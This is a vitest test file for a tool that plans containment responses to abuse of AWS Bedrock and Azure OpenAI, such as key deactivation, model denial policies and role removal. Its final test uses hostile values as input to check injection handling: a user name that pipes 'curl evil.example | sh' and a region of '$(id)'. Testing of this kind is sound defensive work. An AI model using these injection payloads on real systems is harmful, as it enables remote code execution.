import { expect, test } from 'vitest';
import { planResponse } from '../../src/triage/response/plan-response.ts';
import { alertOf, BEDROCK, eventId, type MadeEvent, readingOf, TRAIL } from './caller/stored-events.ts';

const AT = Date.UTC(2026, 2, 18, 3, 12);
const EVE = 'arn:aws:iam::123456789012:user/eve';
const MODEL = 'anthropic.claude-3-haiku-20240307-v1:0';
const AZURE = 'logs-azure_openai.logs-default';

const call = (i: number, fields: MadeEvent['fields'], at = AT): MadeEvent => ({
  id: eventId(i),
  at: at + i * 1_000,
  fields: {
    'user.id': EVE,
    'cloud.provider': 'aws',
    'cloud.account.id': '123456789012',
    'cloud.region': 'eu-central-1',
    'aws_bedrock.invocation.model_id': MODEL,
    'gen_ai.request.model.id': MODEL,
    ...fields,
  },
});

test('keys come from CloudTrail, and the guardrail from what the account uses besides', async () => {
  const evidence = [call(1, {}), call(2, {})];
  const guarded = [
    call(3, { 'user.id': 'arn:aws:iam::123456789012:user/bob', 'gen_ai.guardrail_id': ['q7d2mzk4vx8t'] }),
  ];
  const trail = [
    {
      id: eventId(9),
      at: AT,
      fields: {
        'aws.cloudtrail.user_identity.arn': EVE,
        'aws.cloudtrail.user_identity.access_key_id': 'AKIAIOSFODNN7EXAMPLE',
      },
    },
  ];
  const { reader, signal } = await readingOf({ [BEDROCK]: [...evidence, ...guarded], [TRAIL]: trail });
  const plan = await planResponse(alertOf({ 'user.id': EVE }, BEDROCK, evidence), { reader, signal, now: AT });
  expect(plan.note).toBeNull();
  expect(plan.targets).toHaveLength(1);
  const [target] = plan.targets;
  expect([target!.kind, target!.events, target!.models, target!.regions]).toEqual([
    'iam_user',
    2,
    [MODEL],
    ['eu-central-1'],
  ]);
  expect(target!.actions.map(({ id }) => id)).toEqual([
    'deactivate-key-mple',
    'deny-models',
    'deny-all-models',
    'require-guardrail',
  ]);
  expect(target!.actions.at(-1)!.policy).toContain('guardrail/q7d2mzk4vx8t');
  expect(target!.impossible).toEqual([]);
});

test('several callers have commands each, those with most events first', async () => {
  const bob = 'arn:aws:sts::123456789012:assumed-role/app/bob';
  const evidence = [call(1, {}), call(2, { 'user.id': bob }), call(3, { 'user.id': bob })];
  const { reader, signal } = await readingOf({ [BEDROCK]: evidence });
  const { targets } = await planResponse(alertOf({}, BEDROCK, evidence), { reader, signal, now: AT });
  expect(targets.map(({ principal, events }) => [principal, events])).toEqual([
    [bob, 2],
    [EVE, 1],
  ]);
});

test('where the events are gone the alert’s own row is what is known, and that is said', async () => {
  const { reader, signal } = await readingOf({ [BEDROCK]: [call(5, {})] });
  const row = { 'user.id': EVE, 'gen_ai.request.model.id': MODEL, 'cloud.account.id': '123456789012' };
  const plan = await planResponse(alertOf(row, BEDROCK, [call(1, {})]), { reader, signal, now: AT });
  expect(plan.note).toContain('made from the alert’s own row');
  expect(plan.targets[0]!.actions.find(({ id }) => id === 'deny-models')!.policy).toContain(
    `arn:aws:bedrock:*::foundation-model/${MODEL}`,
  );
});

test('a caller of Azure OpenAI loses its roles on the resource', async () => {
  const resource =
    '/subscriptions/11111111-2222-3333-4444-555555555555/resourcegroups/rg/providers/microsoft.cognitiveservices/accounts/ai';
  const evidence: MadeEvent[] = [
    {
      id: eventId(1),
      at: AT,
      fields: {
        'user.id': '99999999-2222-3333-4444-555555555555',
        'cloud.provider': 'azure',
        'azure.resource.id': resource,
      },
    },
  ];
  const { reader, signal } = await readingOf({ [AZURE]: evidence });
  const { targets } = await planResponse(alertOf({}, AZURE, evidence), { reader, signal, now: AT });
  expect(targets.map(({ kind, actions }) => [kind, actions.map(({ id }) => id)])).toEqual([
    ['azure', ['remove-roles', 'regenerate-keys', 'disable-keys']],
  ]);
});

test('hostile names are told and get into no command', async () => {
  const hostile = "arn:aws:iam::123456789012:user/x'; curl evil.example | sh #";
  const evidence = [call(1, { 'user.id': hostile, 'cloud.region': '$(id)', 'aws_bedrock.invocation.model_id': '*' })];
  const { reader, signal } = await readingOf({ [BEDROCK]: evidence });
  const { targets } = await planResponse(alertOf({}, BEDROCK, evidence), { reader, signal, now: AT });
  expect(targets[0]).toMatchObject({ kind: 'unknown', principal: hostile, actions: [] });
});
